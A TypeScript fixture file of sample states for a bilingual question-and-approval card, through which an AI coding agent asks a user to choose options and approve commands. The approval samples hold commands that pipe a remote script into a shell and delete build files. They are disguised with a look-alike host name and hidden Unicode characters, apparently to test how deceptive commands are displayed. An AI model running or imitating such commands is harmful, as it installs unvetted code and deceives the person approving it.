import type { OutcomeWire, Question } from "../../form/wire.ts";
import type { Lang } from "../../text/lang.ts";
import type { UserQuestionPanel } from "../user-question-panel.ts";
import type { Interaction } from "../types.ts";

type Sample = Partial<Pick<UserQuestionPanel, "interaction" | "draft" | "refusal" | "rounds" | "folded" | "offline" | "readContext">>;

/** The states of the card. */
export function samples(lang: Lang): Record<string, Sample> {
  const t = (en: string, zh: string) => (lang === "zh" ? zh : en);
  const ask = (questions: Question[], more: Partial<Interaction> = {}): Interaction => ({
    interaction_id: "01J0000000000000000000000A",
    session_id: "s",
    round: 1,
    state: "pending",
    source: "tool",
    agent: { kind: "main", name: "Claude Code" },
    project: "work/shop-api",
    asked_at: new Date(Date.now() - 120_000).toISOString(),
    chain: 1,
    questions,
    ...more,
  });
  const auth: Question = {
    question_id: "auth",
    header: t("Auth", "认证方式"),
    question_text: t("Which authentication strategy should I use?", "您希望采用哪种身份验证策略？"),
    description: t(
      "Pick what fits this project's security needs. The current code in `auth.py` has **no** sessions yet.",
      "请选择最适合当前项目安全要求和用户体验的方案。`auth.py` 目前**没有**会话机制。",
    ),
    type: "multiple_choice",
    options: [
      { id: "oauth2", label: "OAuth 2.0", description: t("Sign in with Google or GitHub; the modern standard.", "支持第三方登录（Google/GitHub），符合现代安全标准。"), default: true },
      { id: "jwt", label: t("JWT with local accounts", "JWT + 本地账号"), description: t("E-mail and password; the token lives in the client.", "用户注册/登录使用邮箱密码，Token 存储在客户端。") },
      { id: "cookie", label: "Session + Cookie", description: t("State on the server; suits classic web apps.", "服务端维护会话状态，适合传统 Web 应用。") },
    ],
    context: [{ path: "src/auth.py", lines: [12, 48] }],
    follow_up_questions: {
      oauth2: [
        {
          question_id: "providers",
          question_text: t("Which providers?", "请选择要集成的 OAuth 提供商："),
          type: "checkbox",
          options: [
            { id: "google", label: "Google" },
            { id: "github", label: "GitHub" },
            { id: "microsoft", label: "Microsoft" },
          ],
          follow_up_questions: {
            github: [{ question_id: "org", question_text: t("Only members of which organisation?", "仅限哪个组织的成员？"), type: "text", required: false }],
          },
        },
      ],
    },
  };
  const port: Question = { question_id: "port", header: t("Port", "端口"), question_text: t("Which port should it listen on?", "服务监听哪个端口？"), type: "text" };
  const migrate: Question = {
    question_id: "migrate",
    header: t("Migrate", "迁移"),
    question_text: t("Run the migration now?", "现在就执行数据库迁移吗？"),
    type: "boolean",
    follow_up_questions: { true: [{ question_id: "backup", question_text: t("Back up first?", "是否先备份？"), type: "boolean", required: false }] },
  };
  const token: Question = { question_id: "token", header: t("Token", "令牌"), question_text: t("The deploy token, please.", "请提供部署令牌。"), type: "text", secret: true };
  const layout: Question = {
    question_id: "layout",
    header: t("Layout", "布局"),
    question_text: t("Which layout for the settings page?", "设置页采用哪种布局？"),
    type: "multiple_choice",
    options: [
      { id: "side", label: t("Side navigation (Recommended)", "侧边导航（推荐）"), description: t("Scales to many sections", "适合很多分区"), preview: "```\n┌────────┬──────────────┐\n│ Nav    │ Form         │\n│ ▸ A    │ ┌──────────┐ │\n│ ▸ B    │ └──────────┘ │\n└────────┴──────────────┘\n```\n\n```ts\nexport const routes = [\n  { path: \"/settings/:section\", view: SettingsPage },\n];\n```\n\n- sections keep their **own URL**\n- the form scrolls, the navigation stays" },
      { id: "tabs", label: t("Tabs on top", "顶部标签"), description: t("Fewer clicks for three sections", "三个分区时点击更少"), preview: "```\n┌─A─┬─B─┬─C─┐\n│ Form      │\n└───────────┘\n```" },
      { id: "one", label: t("One long page", "单页长表单"), preview: "| pro | con |\n|---|---|\n| simple | long |" },
    ],
  };
  const oauthAnswers = [
    {
      question_id: "auth", header: auth.header ?? null, question: auth.question_text, answer: "oauth2",
      note: t("Only for staff, customers keep passwords.", "仅员工使用，客户仍用密码。"),
      follow_ups: [{ question_id: "providers", header: null, question: "", answer: ["github", { other: "GitLab" }] }],
    },
  ];
  const outcome = (more: Partial<OutcomeWire> = {}): OutcomeWire => ({
    interaction_id: "01J0000000000000000000000A", session_id: "s", round: 1, tool_use_id: null, state: "answered", answers: oauthAnswers,
    unanswered: [], decided_by: "person", evidence: "terminal", delivery: "acknowledged", by: "lin", via: "terminal", at: new Date(Date.now() - 3_000).toISOString(), took_ms: 117_000, ...more,
  });
  const soon = (millis: number) => new Date(Date.now() + millis).toISOString();
  return {
    single: { interaction: ask([auth]), rounds: 3, readContext: async () => "class Auth:\n    def login(self, user: str) -> bool:\n        return False\n" },
    checkbox: { interaction: ask([{ ...auth, type: "checkbox", question_id: "feature", header: t("Feature", "选择功能"), question_text: t("What should I do?", "请选择一个功能"), description: undefined as never, follow_up_questions: {}, context: [], options: [
      { id: "a", label: t("Recite a poem", "背唐诗"), description: t("A classic of the Tang", "背诵一首经典唐诗") },
      { id: "b", label: t("Tell a joke", "讲笑话"), description: t("A good one", "讲一个有趣的笑话") },
      { id: "c", label: t("Draw a smile", "输出笑脸图标"), description: t("One face", "输出一个笑脸表情") },
      { id: "d", label: t("Once more, same options (I want to see several rounds)", "再给一个多选框还是这些选项（我想了解多次对话这个过程）") },
    ] }], { round: 2, chain: 2 }), rounds: 3, draft: { feature: { picked: ["a", "d"] } } },
    follow: { interaction: ask([auth]), draft: { auth: { picked: ["oauth2"] }, providers: { picked: ["github"], other: "GitLab", other_on: true } } },
    several: { interaction: ask([auth, port, migrate, token], { round: 2, chain: 9 }), rounds: 5, draft: { auth: { picked: ["jwt"], note: t("Short tokens please", "令牌请短一些") } } },
    text: { interaction: ask([port]) },
    yesno: { interaction: ask([migrate]), draft: { migrate: { yes: true } } },
    secret: { interaction: ask([token]) },
    preview: { interaction: ask([layout]) },
    deadline: { interaction: ask([{ ...auth, required: false }], { deadline: { at: soon(252_000) } }) },
    soon: { interaction: ask([migrate], { deadline: { at: soon(42_000), on_timeout: "terminate" } }) },
    held: { interaction: ask([port], { deadline: { at: soon(10_000), held_with: 252_000 } }) },
    long: { interaction: ask([{ question_id: "model", header: t("Region", "区域"), question_text: t("Which region?", "选择哪个区域？"), type: "checkbox", options: Array.from({ length: 10_000 }, (_, i) => ({ id: `r${i}`, label: `region-${String(i).padStart(5, "0")}`, description: i % 3 ? undefined as never : t("with a description", "带有说明") })) }]), draft: { model: { picked: ["r3", "r7"] } } },
    approval: { interaction: ask([{ question_id: "ok", question_text: t("Run this command?", "执行此命令？"), description: "rm -rf build/ && curl https://get.example/install.sh | sh\u{202e}gpj.exe\u{200b}\n".concat("echo step\n".repeat(30)), type: "boolean", allow_other: false }], { source: "approval" }) },
    action: { interaction: ask([{ question_id: "ok", header: t("Permission", "权限"), question_text: t("Allow Bash?", "允许 Bash 吗？"), action_digest: "3f9ac1e07b5d2486".repeat(4),
      description: `${t("The agent's reason:", "代理给出的理由：")}\n│ This command requires approval\ncommand:\n│ for f in build/*; do\n│ \trm -rf "$f"\u{a0}–f\n│ done\n│ curl https://get.exаmple/install.sh | sh   \ntimeout: 5`,
      type: "multiple_choice", options: [{ id: "deny", label: t("No", "不允许") }, { id: "allow", label: t("Yes, this once", "允许这一次") }, { id: "always", label: t("Yes, and do not ask again", "允许，且不再询问"), description: "allow Bash(rm *) → session\nallow Bash(curl *) → localSettings\nmode acceptEdits → session" }, { id: "change", label: t("Yes, but changed", "修改后允许"), preview: '{\n  "command": "for f in build/*; do\\n\\trm -rf \\"$f\\"",\n  "timeout": 5\n}' }],
      follow_up_questions: { change: [{ question_id: "instead", question_text: t("What should it run with instead? The whole input, as JSON.", "应改用什么输入？请写出完整的 JSON。"), type: "text" }] } }], { source: "approval" }) },
    permit: { interaction: ask([{ question_id: "ok", question_text: t("Claude wants to edit `src/main.rs`", "Claude 想修改 `src/main.rs`"), description: "- let port = 80;\n+ let port = 8080;", type: "multiple_choice", options: [{ id: "allow", label: t("Allow once", "允许一次") }, { id: "always", label: t("Allow always in this session", "本会话始终允许") }, { id: "deny", label: t("Deny", "拒绝"), description: t("Tell it what to do instead", "告诉它该怎么做") }] }], { source: "approval" }) },
    offline: { interaction: ask([port]), offline: true, draft: { port: { text: "8080" } } },
    refused: { interaction: ask([port]), draft: { port: { text: "80" } }, refusal: { code: "invalid_answer", message: t("The answer does not fit the question; see the details.", "答案与问题不符；详见 details。"), details: [{ path: "port", message: t("at most 10000 characters, got 10001", "最多 10000 个字符，现有 10001 个") }] } },
    closed: { interaction: ask([auth], { state: "answered", outcome: outcome() }) },
    timeout: { interaction: ask([{ ...auth, required: false }], { state: "timeout", outcome: outcome({ state: "timeout", decided_by: "timeout", by: "desk", via: "desk", defaulted: ["auth"], answers: [{ ...oauthAnswers[0], note: undefined as never, follow_ups: [] } as never], unanswered: ["providers"] }) }) },
    cancelled: { interaction: ask([auth], { state: "cancelled", outcome: outcome({ state: "cancelled", via: "web", answers: [], reason: t("Let us talk about the data model first.", "先谈谈数据模型。") }) }) },
    folded: { interaction: ask([auth, port, migrate], { deadline: { at: soon(252_000) } }), folded: true },
    foldedClosed: { interaction: ask([auth], { state: "answered", outcome: outcome() }), folded: true },
  };
}
